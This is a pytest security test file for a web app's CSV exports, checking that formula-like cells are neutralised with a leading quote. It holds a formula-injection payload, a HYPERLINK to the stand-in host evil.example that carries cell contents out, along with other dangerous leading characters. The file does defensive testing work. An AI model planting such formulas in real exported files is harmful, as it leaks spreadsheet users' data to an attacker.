"""Finding 9: formulas in exported CSV cells are neutralised (OWASP: a leading ')."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import httpx
import psycopg
import pytest

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'
BODIES = ["+33 6 12 34 56 78", "-2+3", "@SUM(A1)", "\tx", "\rx", "Arbre tombé"]


@pytest.fixture
def hostile_contribution(demo_db: str) -> Iterator[int]:
    """A published contribution titled with a formula (restored afterwards: shared db)."""
    with psycopg.connect(demo_db, autocommit=True) as conn:
        row = conn.execute(
            "SELECT id, title, body FROM contribution WHERE visibility = 'published' "
            "ORDER BY id LIMIT 1"
        ).fetchone()
        assert row is not None
        ident, title, body = row
        conn.execute(
            "UPDATE contribution SET title = %s, body = %s WHERE id = %s",
            (PAYLOAD, BODIES[0], ident),
        )
        try:
            yield ident
        finally:
            conn.execute(
                "UPDATE contribution SET title = %s, body = %s WHERE id = %s", (title, body, ident)
            )


def _rows(http: httpx.Client, ident: int) -> list[dict[str, str]]:
    resp = http.get("/exports/contributions.csv", params={"id": str(ident)})
    assert resp.status_code == 200, resp.text
    return list(csv.DictReader(io.StringIO(resp.text, newline="")))


def test_formula_title_is_text_in_the_csv(http: httpx.Client, hostile_contribution: int) -> None:
    (row,) = _rows(http, hostile_contribution)
    assert row["title"] == "'" + PAYLOAD
    assert row["body"] == "'" + BODIES[0]
    assert row["id"] == str(hostile_contribution)  # numbers are not touched


@pytest.mark.parametrize("body", BODIES[1:])
def test_every_dangerous_first_character(
    http: httpx.Client, demo_db: str, hostile_contribution: int, body: str
) -> None:
    with psycopg.connect(demo_db, autocommit=True) as conn:
        conn.execute(
            "UPDATE contribution SET body = %s WHERE id = %s", (body, hostile_contribution)
        )
    (row,) = _rows(http, hostile_contribution)
    assert row["body"] == (body if body[0].isalpha() else "'" + body)


def test_negative_numbers_stay_numbers(
    http: httpx.Client, demo_db: str, hostile_contribution: int
) -> None:
    """Only text cells are neutralised: a numeric column holding -3 is still -3."""
    with psycopg.connect(demo_db, autocommit=True) as conn:
        before = conn.execute(
            "SELECT votes_against FROM contribution WHERE id = %s", (hostile_contribution,)
        ).fetchone()
        assert before is not None
        conn.execute(
            "UPDATE contribution SET votes_against = -3 WHERE id = %s", (hostile_contribution,)
        )
        try:
            (row,) = _rows(http, hostile_contribution)
        finally:
            conn.execute(
                "UPDATE contribution SET votes_against = %s WHERE id = %s",
                (before[0], hostile_contribution),
            )
    assert row["votes_against"] == "-3"


def test_ogc_csv_neutralises_formulas(http: httpx.Client, hostile_contribution: int) -> None:
    """The OGC API's own CSV (`f=csv`, tipg's writer replaced) is neutralised the same way."""
    resp = http.get(
        "/ogc/collections/contributions/items", params={"f": "csv", "id": str(hostile_contribution)}
    )
    assert resp.status_code == 200, resp.text
    rows = list(csv.DictReader(io.StringIO(resp.text)))
    [row] = [r for r in rows if r.get("id") == str(hostile_contribution)]
    assert row["title"] == "'" + PAYLOAD


def test_ogc_csv_of_an_empty_page_is_an_empty_answer(http: httpx.Client) -> None:
    """tipg's writer raised StopIteration on no rows: a 200 cut short mid-stream."""
    resp = http.get("/ogc/collections/contributions/items", params={"f": "csv", "id": "999999999"})
    assert resp.status_code == 200 and resp.text == ""
